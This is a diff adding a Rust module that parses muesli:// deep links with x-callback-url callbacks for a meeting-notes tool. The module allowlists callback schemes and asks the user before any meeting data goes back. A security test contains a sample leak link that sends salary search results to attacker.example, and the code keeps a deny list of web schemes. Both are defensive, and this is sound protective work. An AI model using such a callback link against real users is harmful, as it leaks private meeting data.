@@ -0,0 +1,432 @@
+// ABOUTME: Parses muesli:// deep links (a document, or an x-callback-url search) from Shortcuts and other apps
+// ABOUTME: And builds the x-success / x-error URLs handed back to the calling app
+
+mod action;
+
+pub use action::{handle, Handled, Show};
+
+use crate::access::{Access, AccessPolicy};
+use crate::config;
+use crate::{Error, Paths, Result};
+use reqwest::Url;
+use serde::Deserialize;
+use std::path::Path;
+
+/// URL scheme registered for `muesli url-handler`
+pub const SCHEME: &str = "muesli";
+
+/// Results returned by a search URL when the caller doesn't ask for a limit
+const DEFAULT_LIMIT: usize = 10;
+
+/// Schemes a callback may never use: any web page could collect what they carry
+const WEB_SCHEMES: &[&str] = &["http", "https", "ftp", "file", "data", "javascript"];
+
+/// `[url_handler]` in config.toml; every key is optional
+#[derive(Debug, Clone, PartialEq, Eq, Deserialize)]
+#[serde(default, deny_unknown_fields)]
+pub struct UrlHandlerConfig {
+    /// Schemes x-success and x-error may open, e.g. "shortcuts" or "drafts"
+    pub callback_schemes: Vec<String>,
+    /// Most restricted access level a callback may receive
+    pub max_access: Access,
+    /// Access level of documents without an `access` tag
+    pub default_access: Access,
+}
+
+impl Default for UrlHandlerConfig {
+    fn default() -> Self {
+        let access = AccessPolicy::default();
+        Self {
+            callback_schemes: vec!["shortcuts".to_string()],
+            max_access: access.max_access,
+            default_access: access.default_access,
+        }
+    }
+}
+
+impl UrlHandlerConfig {
+    /// The callback rules in a config file's `[url_handler]` table
+    pub fn load(path: &Path) -> Result<Self> {
+        config::load_section(path, "url_handler")
+    }
+
+    /// The callback rules this data directory was set up with
+    pub fn configured(paths: &Paths) -> Result<Self> {
+        Self::load(&paths.config_file)
+    }
+
+    pub fn access(&self) -> AccessPolicy {
+        AccessPolicy {
+            max_access: self.max_access,
+            default_access: self.default_access,
+        }
+    }
+
+    /// Whether a callback may be opened: never a web URL, and only an allowed scheme
+    fn allows_callback(&self, url: &Url) -> bool {
+        let scheme = url.scheme();
+        !WEB_SCHEMES.contains(&scheme) && self.callback_schemes.iter().any(|s| s == scheme)
+    }
+}
+
+/// What a `muesli://` URL asks for
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub enum UrlAction {
+    /// `muesli://doc/<id>`, optionally `?summary=1` for the saved summary
+    Doc { doc_id: String, summary: bool },
+    /// `muesli://search?q=<query>&n=<limit>`
+    Search { query: String, limit: usize },
+}
+
+/// A parsed `muesli://` URL with the callbacks the caller asked for
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct HandlerUrl {
+    pub action: UrlAction,
+    /// `x-success`: opened with the result appended as query parameters
+    pub success: Option<Url>,
+    /// `x-error`: opened with `errorMessage` when the action fails
+    pub error: Option<Url>,
+}
+
+/// Where a link's reply goes once the user has had their say
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub enum Callback {
+    /// x-success with the reply appended
+    Send(Url),
+    /// The user declined: nothing is sent, and x-error (when given) hears why.
+    /// Declining is not a failure of the link itself.
+    Cancelled(Option<Url>),
+}
+
+impl HandlerUrl {
+    /// The callback to open after the action produced `reply`, or None without x-success
+    ///
+    /// Meeting data only goes back once `confirm` agrees to the question it is
+    /// asked; an empty reply goes back without asking.
+    pub fn callback(
+        &self,
+        reply: &[(&str, String)],
+        confirm: impl FnOnce(&str) -> bool,
+    ) -> Option<Callback> {
+        let success = self.success.as_ref()?;
+        if !reply.is_empty() && !confirm(&self.question(success.scheme())) {
+            let message = "The user declined to send meeting data";
+            return Some(Callback::Cancelled(
+                self.error
+                    .as_ref()
+                    .map(|error| callback_url(error, &[("errorMessage", message)])),
+            ));
+        }
+        let params: Vec<(&str, &str)> = reply.iter().map(|(k, v)| (*k, v.as_str())).collect();
+        Some(Callback::Send(callback_url(success, &params)))
+    }
+
+    /// The x-error URL reporting `error`, when the caller gave one
+    pub fn error_callback(&self, error: &Error) -> Option<Url> {
+        let message = error.to_string();
+        self.error
+            .as_ref()
+            .map(|url| callback_url(url, &[("errorMessage", &message)]))
+    }
+
+    fn question(&self, scheme: &str) -> String {
+        let what = match &self.action {
+            UrlAction::Doc { doc_id, .. } => format!("the title and path of meeting {}", doc_id),
+            UrlAction::Search { query, .. } => format!("search results for \"{}\"", query),
+        };
+        format!("Send {} to {}://?", what, scheme)
+    }
+}
+
+/// Link that opens a document through `muesli url-handler`
+pub fn doc_url(doc_id: &str) -> String {
+    let mut url = Url::parse(&format!("{}://doc", SCHEME)).expect("static URL parses");
+    url.path_segments_mut()
+        .expect("doc URL has a path")
+        .push(doc_id);
+    url.to_string()
+}
+
+/// Parses `muesli://doc/<id>`, `muesli://search?q=...` and their
+/// `muesli://x-callback-url/<action>` spellings
+///
+/// Callbacks outside `config.callback_schemes`, and web URLs in any case, are
+/// refused: any page in a browser can open a `muesli://` link.
+pub fn parse(input: &str, config: &UrlHandlerConfig) -> Result<HandlerUrl> {
+    let url = Url::parse(input)
+        .map_err(|e| Error::InvalidInput(format!("Not a URL: {} ({})", input, e)))?;
+    if url.scheme() != SCHEME {
+        return Err(Error::InvalidInput(format!(
+            "Expected a {}:// URL, got {}",
+            SCHEME, input
+        )));
+    }
+
+    // The host is the action, unless it's the x-callback-url marker
+    let mut segments: Vec<String> = url
+        .path_segments()
+        .into_iter()
+        .flatten()
+        .filter(|s| !s.is_empty())
+        .map(percent_decode)
+        .collect();
+    let host = url.host_str().unwrap_or_default();
+    let action = if host == "x-callback-url" {
+        if segments.is_empty() {
+            String::new()
+        } else {
+            segments.remove(0)
+        }
+    } else {
+        host.to_string()
+    };
+
+    let param = |name: &str| {
+        url.query_pairs()
+            .find(|(key, _)| key == name)
+            .map(|(_, value)| value.into_owned())
+    };
+    let flag = |name: &str| param(name).is_some_and(|v| !matches!(v.as_str(), "0" | "false"));
+    let callback = |name: &str| -> Result<Option<Url>> {
+        let Some(value) = param(name) else {
+            return Ok(None);
+        };
+        let url = Url::parse(&value).map_err(|e| {
+            Error::InvalidInput(format!("{} is not a URL: {} ({})", name, value, e))
+        })?;
+        if !config.allows_callback(&url) {
+            return Err(Error::InvalidInput(format!(
+                "{} may not open {}:// URLs; allowed schemes are set with callback_schemes under [url_handler] in config.toml",
+                name,
+                url.scheme()
+            )));
+        }
+        Ok(Some(url))
+    };
+
+    let action = match action.as_str() {
+        "doc" | "open" => {
+            let doc_id = segments
+                .first()
+                .cloned()
+                .or_else(|| param("id"))
+                .filter(|id| !id.is_empty())
+                .ok_or_else(|| Error::InvalidInput(format!("No document ID in {}", input)))?;
+            UrlAction::Doc {
+                doc_id,
+                summary: flag("summary"),
+            }
+        }
+        "search" => {
+            let query = param("q")
+                .or_else(|| param("query"))
+                .filter(|q| !q.trim().is_empty())
+                .ok_or_else(|| Error::InvalidInput(format!("No search query (q=) in {}", input)))?;
+            let limit = match param("n").or_else(|| param("limit")) {
+                Some(n) => n.parse().map_err(|_| {
+                    Error::InvalidInput(format!("Result limit must be a number, got {}", n))
+                })?,
+                None => DEFAULT_LIMIT,
+            };
+            UrlAction::Search { query, limit }
+        }
+        other => {
+            return Err(Error::InvalidInput(format!(
+                "Unknown action '{}' in {}; expected doc or search",
+                other, input
+            )))
+        }
+    };
+
+    Ok(HandlerUrl {
+        action,
+        success: callback("x-success")?,
+        error: callback("x-error")?,
+    })
+}
+
+/// `base` with `params` appended to its query, for an x-callback reply
+pub fn callback_url(base: &Url, params: &[(&str, &str)]) -> Url {
+    let mut url = base.clone();
+    url.query_pairs_mut().extend_pairs(params);
+    url
+}
+
+/// A freedesktop entry that makes `muesli url-handler` the handler for `muesli://` links
+///
+/// Save it as `~/.local/share/applications/muesli-url-handler.desktop`, then run
+/// `xdg-mime default muesli-url-handler.desktop x-scheme-handler/muesli`.
+pub fn desktop_entry(exe: &Path) -> String {
+    format!(
+        "[Desktop Entry]\nType=Application\nName=muesli\nComment=Open muesli:// meeting links\nExec=\"{}\" url-handler %u\nTerminal=false\nNoDisplay=true\nMimeType=x-scheme-handler/{};\n",
+        exe.display(),
+        SCHEME
+    )
+}
+
+fn percent_decode(segment: &str) -> String {
+    // Url leaves path segments encoded; a dummy query decodes them the same way
+    Url::parse(&format!("{}://x/?v={}", SCHEME, segment))
+        .ok()
+        .and_then(|url| url.query_pairs().next().map(|(_, v)| v.into_owned()))
+        .unwrap_or_else(|| segment.to_string())
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn parse_default(input: &str) -> Result<HandlerUrl> {
+        parse(input, &UrlHandlerConfig::default())
+    }
+
+    #[test]
+    fn test_doc_urls() {
+        let parsed = parse_default("muesli://doc/abc-123").unwrap();
+        assert_eq!(
+            parsed.action,
+            UrlAction::Doc {
+                doc_id: "abc-123".to_string(),
+                summary: false
+            }
+        );
+        assert_eq!(parsed.success, None);
+
+        let parsed = parse_default("muesli://x-callback-url/open?id=abc-123&summary=1").unwrap();
+        assert_eq!(
+            parsed.action,
+            UrlAction::Doc {
+                doc_id: "abc-123".to_string(),
+                summary: true
+            }
+        );
+
+        assert_eq!(doc_url("abc 123"), "muesli://doc/abc%20123");
+        assert_eq!(
+            parse_default(&doc_url("abc 123")).unwrap().action,
+            UrlAction::Doc {
+                doc_id: "abc 123".to_string(),
+                summary: false
+            }
+        );
+    }
+
+    #[test]
+    fn test_search_url_with_callbacks() {
+        let parsed = parse_default(
+            "muesli://x-callback-url/search?q=pricing%20review&n=3&x-success=shortcuts://x-callback-url/done&x-error=shortcuts://x-callback-url/failed",
+        )
+        .unwrap();
+        assert_eq!(
+            parsed.action,
+            UrlAction::Search {
+                query: "pricing review".to_string(),
+                limit: 3
+            }
+        );
+
+        let reply = callback_url(parsed.success.as_ref().unwrap(), &[("result", "[1, 2]")]);
+        assert_eq!(
+            reply.as_str(),
+            "shortcuts://x-callback-url/done?result=%5B1%2C+2%5D"
+        );
+        assert!(parsed.error.is_some());
+    }
+
+    #[test]
+    fn test_declined_callback_is_cancelled() {
+        let parsed = parse_default(
+            "muesli://x-callback-url/doc/abc?x-success=shortcuts://done&x-error=shortcuts://failed",
+        )
+        .unwrap();
+        let reply = [("doc_id", "abc".to_string())];
+
+        let mut asked = String::new();
+        let declined = parsed.callback(&reply, |question| {
+            asked = question.to_string();
+            false
+        });
+        assert_eq!(
+            asked,
+            "Send the title and path of meeting abc to shortcuts://?"
+        );
+        assert_eq!(
+            declined,
+            Some(Callback::Cancelled(Some(
+                Url::parse(
+                    "shortcuts://failed?errorMessage=The+user+declined+to+send+meeting+data"
+                )
+                .unwrap()
+            )))
+        );
+
+        assert_eq!(
+            parsed.callback(&reply, |_| true),
+            Some(Callback::Send(
+                Url::parse("shortcuts://done?doc_id=abc").unwrap()
+            ))
+        );
+        // Nothing to send needs no say-so
+        assert!(matches!(
+            parsed.callback(&[], |_| panic!("asked without data")),
+            Some(Callback::Send(_))
+        ));
+        assert!(parse_default("muesli://doc/abc")
+            .unwrap()
+            .callback(&reply, |_| true)
+            .is_none());
+    }
+
+    #[test]
+    fn test_bad_urls() {
+        assert!(parse_default("https://doc/abc").is_err());
+        assert!(parse_default("muesli://doc").is_err());
+        assert!(parse_default("muesli://search").is_err());
+        assert!(parse_default("muesli://search?q=x&n=lots").is_err());
+        assert!(parse_default("muesli://delete/abc").is_err());
+        assert!(parse_default("muesli://search?q=x&x-success=not%20a%20url").is_err());
+    }
+
+    #[test]
+    fn test_callback_schemes() {
+        let leak =
+            "muesli://x-callback-url/search?q=salary&x-success=https://attacker.example/collect";
+        let err = parse_default(leak).unwrap_err().to_string();
+        assert!(
+            err.contains("x-success may not open https:// URLs"),
+            "{}",
+            err
+        );
+        assert!(parse_default("muesli://doc/abc?x-error=drafts://x-callback-url/create").is_err());
+
+        // Configured schemes are allowed, web schemes never
+        let config = UrlHandlerConfig {
+            callback_schemes: vec!["drafts".to_string(), "https".to_string()],
+            ..Default::default()
+        };
+        assert!(parse(
+            "muesli://doc/abc?x-success=drafts://x-callback-url/create",
+            &config
+        )
+        .is_ok());
+        assert!(parse(leak, &config).is_err());
+    }
+
+    #[test]
+    fn test_config() {
+        let temp = tempfile::TempDir::new().unwrap();
+        let path = temp.path().join("config.toml");
+        assert_eq!(
+            UrlHandlerConfig::load(&path).unwrap(),
+            UrlHandlerConfig::default()
+        );
+        std::fs::write(
+            &path,
+            "[url_handler]\ncallback_schemes = [\"drafts\"]\nmax_access = \"public\"\n",
+        )
+        .unwrap();
+        let config = UrlHandlerConfig::load(&path).unwrap();
+        assert_eq!(config.callback_schemes, vec!["drafts"]);
+        assert!(!config.access().allows(Some(Access::Team)));
+    }
+}